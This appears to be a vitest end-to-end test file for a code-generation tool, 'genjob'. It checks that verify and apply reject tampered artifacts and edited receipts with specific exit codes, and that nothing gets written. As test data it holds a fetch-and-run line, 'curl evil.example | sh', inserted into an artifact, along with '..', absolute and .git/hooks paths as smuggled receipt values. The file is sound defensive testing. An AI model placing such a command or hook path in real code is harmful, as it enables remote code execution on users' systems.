// Material edited after work is refused: changed artifact bytes (rule 4) and a receipt edited to
// name a path outside the contract, a '..' path or an absolute path (rule 3). Each is exit 3 with
// its own code, from verify and from apply, and nothing is written — in the repo or beside it.
import { existsSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import {
  DEMO_GENERATOR,
  genDir,
  makeSandbox,
  mintKey,
  readJson,
  snapshot,
  TIMEOUT_INSTRUCTION,
} from './helpers.js';

async function workedJob() {
  const sb = await makeSandbox();
  const key = await mintKey(sb, TIMEOUT_INSTRUCTION, ['src/user.py', 'tests/test_user.py']);
  const work = await sb.genjob(['work', '--once', '--generator', DEMO_GENERATOR]);
  if (work.exitCode !== 0) throw new Error(`work exited ${work.exitCode}: ${work.stderr}`);
  return { sb, key };
}

describe('artifact bytes changed after work', () => {
  it('makes verify exit 3 with EGJ_ARTIFACT_DRIFT and apply refuse, the repo byte-identical', async () => {
    const { sb, key } = await workedJob();
    const artifact = join(sb.repo, '.gen/out', key, 'src/user.py');
    writeFileSync(artifact, 'import os\nos.system("curl evil.example | sh")\n');
    const before = snapshot(sb.repo);

    const verify = await sb.genjob(['verify', key]);
    expect(verify.exitCode).toBe(3);
    expect(verify.stderr).toMatch(
      new RegExp(
        `^genjob: EGJ_ARTIFACT_DRIFT: ${artifact}: bytes hash to [0-9a-f]{12}, receipt says [0-9a-f]{12}\\n$`,
      ),
    );
    const apply = await sb.genjob(['apply', '--json', key]);
    expect(apply.exitCode).toBe(3);
    expect(apply.stderr).toBe(verify.stderr);
    expect(JSON.parse(apply.stdout)).toMatchObject({ ok: false, code: 'EGJ_ARTIFACT_DRIFT', file: artifact });
    expect(snapshot(sb.repo)).toEqual(before);
    expect(genDir(sb, 'applied')).toEqual([]);
    expect(genDir(sb, 'applying')).toEqual([]);
  });

  it('makes verify exit 3 with EGJ_ARTIFACT_EXTRA when a file is added to out/<key>/', async () => {
    const { sb, key } = await workedJob();
    const extra = join(sb.repo, '.gen/out', key, 'README.md');
    writeFileSync(extra, 'smuggled\n');
    const before = snapshot(sb.repo);
    const apply = await sb.genjob(['apply', key]);
    expect(apply).toMatchObject({
      exitCode: 3,
      stderr: `genjob: EGJ_ARTIFACT_EXTRA: ${extra}: artifact the receipt does not name\n`,
    });
    expect(snapshot(sb.repo)).toEqual(before);
  });
});

describe('a receipt edited to name another path', () => {
  const cases = [
    {
      name: 'a repository file outside the contract',
      path: 'README.md',
      code: 'EGJ_PATH_OUTSIDE_CONTRACT',
      rule: `output "README.md" is not one of the job's allowed paths`,
    },
    {
      name: 'a .. path',
      path: '../x',
      code: 'EGJ_PATH_FORM',
      rule: `output "../x": path has a '..' component`,
    },
    {
      name: 'an absolute path',
      path: '/tmp/genjob-e2e-absolute-x',
      code: 'EGJ_PATH_FORM',
      rule: 'output "/tmp/genjob-e2e-absolute-x": path is absolute',
    },
    {
      name: 'a path inside .git/',
      path: '.git/hooks/pre-commit',
      code: 'EGJ_PATH_FORM',
      rule: 'output ".git/hooks/pre-commit": path is inside .git/',
    },
  ];
  for (const c of cases) {
    it(`exits 3 with ${c.code} and writes nothing anywhere (${c.name})`, async () => {
      const { sb, key } = await workedJob();
      const receiptFile = join(sb.repo, '.gen/receipts', `${key}.json`);
      const receipt = readJson<{ outputs: Array<{ path: string }> }>(receiptFile);
      receipt.outputs[0]!.path = c.path;
      writeFileSync(receiptFile, JSON.stringify(receipt));
      const repoBefore = snapshot(sb.repo);
      const sandboxBefore = snapshot(sb.base, ['repo']);

      for (const verb of ['verify', 'apply']) {
        const r = await sb.genjob([verb, key]);
        expect(r.exitCode).toBe(3);
        expect(r.stderr).toBe(`genjob: ${c.code}: ${receiptFile}: ${c.rule}\n`);
      }
      expect(snapshot(sb.repo)).toEqual(repoBefore);
      expect(snapshot(sb.base, ['repo'])).toEqual(sandboxBefore);
      expect(existsSync(join(sb.base, 'x'))).toBe(false);
      expect(existsSync('/tmp/genjob-e2e-absolute-x')).toBe(false);
      expect(genDir(sb, 'applied')).toEqual([]);
    });
  }

  it('exits 3 with EGJ_RECEIPT_SCHEMA when the receipt is not JSON', async () => {
    const { sb, key } = await workedJob();
    const receiptFile = join(sb.repo, '.gen/receipts', `${key}.json`);
    writeFileSync(receiptFile, '{"schema": "genjob/receipt@1", ');
    const r = await sb.genjob(['verify', key]);
    expect(r.exitCode).toBe(3);
    expect(r.stderr).toMatch(
      new RegExp(`^genjob: EGJ_RECEIPT_SCHEMA: ${receiptFile}: receipt is not JSON \\(.+\\)\\n$`),
    );
  });
});
